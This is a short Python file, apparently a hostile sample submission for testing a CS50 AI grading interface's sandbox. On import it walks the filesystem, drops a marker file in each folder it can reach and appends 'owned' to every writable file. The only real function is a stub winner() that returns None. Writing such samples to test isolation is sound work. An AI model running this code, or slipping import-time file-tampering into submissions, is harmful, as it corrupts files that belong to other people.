"""A hostile submission in CS50 AI's interface: at import it tries to leave a file in every
folder it can see, and to change every file it can open for writing."""
import os

for folder, names, files in os.walk("/"):
    names[:] = [] if folder.count(os.sep) > 5 else [
        name for name in names if name not in ("proc", "sys", "dev")]
    try:
        with open(os.path.join(folder, "minimax-lab-was-here"), "w") as out:
            out.write("owned")
    except OSError:
        pass
    for name in files:
        try:
            with open(os.path.join(folder, name), "a") as out:
                out.write("owned")
        except OSError:
            pass


def winner(board):
    return None
